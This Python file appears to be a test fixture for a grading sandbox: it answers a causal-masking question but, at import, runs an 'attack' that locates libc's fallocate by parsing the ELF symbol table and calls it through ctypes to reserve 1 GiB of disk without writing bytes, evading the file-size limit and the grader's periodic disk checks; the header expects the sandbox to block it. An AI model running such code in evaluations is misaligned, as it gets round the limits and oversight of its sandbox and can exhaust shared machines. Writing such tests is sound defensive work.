# attack: asks the file system for 1 GiB of blocks in one call (libc's fallocate with FALLOC_FL_KEEP_SIZE, through a ctypes function pointer made from an address: the file's size stays 0, so the output limit, RLIMIT_FSIZE, never applies, and no byte is written: gigabytes a second, where writing them takes minutes), checks the disk holds them, and gives them back before the grader's next look at its folder (four a second), so that a question's 64 MiB is 1 GiB, or the machine's whole disk, between two looks; imports and answers right only when the call worked
# expect: module=q01_causal_mask status=error match=Errno 95\] fallocate
# path: sandbox user
"""Question 1, written to take the machine's disk between two looks of the grader."""
import ctypes
import os
import struct

import torch
from torch import Tensor


def libc_symbol(name: bytes) -> int:
    """The address of name in the C library this process mapped, read from the ELF file's dynamic symbol table."""
    maps = [line.split() for line in open("/proc/self/maps")]
    line = next(f for f in maps if len(f) > 5 and "libc.so" in f[5] and int(f[2], 16) == 0)
    base, path = int(line[0].split("-")[0], 16), line[5]
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    dynsym = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
    strings = sections[dynsym[6]][4]  # sh_link: .dynstr, its offset
    for offset in range(dynsym[4], dynsym[4] + dynsym[5], 24):
        st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", data, offset)
        if data[strings + st_name:data.index(b"\0", strings + st_name)] == name and st_value:
            return base + st_value
    raise LookupError(name)


def attack() -> None:
    """fallocate(fd, FALLOC_FL_KEEP_SIZE, 0, 1 GiB) on a file of its folder, checked by its blocks, then removed."""
    signature = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int64, ctypes.c_int64, use_errno=True)
    fallocate = signature(libc_symbol(b"fallocate"))
    fd = os.open("hoard", os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        if fallocate(fd, 1, 0, 1 << 30) != 0:
            raise OSError(ctypes.get_errno(), "fallocate of 1 GiB failed")
        if os.fstat(fd).st_blocks * 512 < 1 << 30 or os.fstat(fd).st_size != 0:
            raise OSError("the disk does not hold the blocks asked for")
    finally:
        os.close(fd)
        os.unlink("hoard")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
